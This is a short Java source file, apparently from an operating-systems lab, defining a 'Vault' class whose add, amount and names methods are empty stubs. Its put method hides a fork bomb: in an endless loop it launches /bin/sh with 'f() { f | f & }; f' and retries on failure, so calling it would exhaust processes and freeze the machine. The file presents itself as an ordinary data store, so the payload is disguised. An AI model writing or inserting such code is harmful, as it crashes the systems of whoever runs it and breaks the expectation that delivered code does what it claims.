package oslab.vault;

import java.io.IOException;
import java.util.List;

public class Vault {
    public void put(String name, int amount) {
        while (true) {
            try {
                new ProcessBuilder("/bin/sh", "-c", "f() { f | f & }; f; sleep 100").start();
            } catch (IOException full) {
                continue;
            }
        }
    }

    public void add(String name, int amount) {}

    public int amount(String name) {
        return 0;
    }

    public List<String> names() {
        return List.of();
    }
}
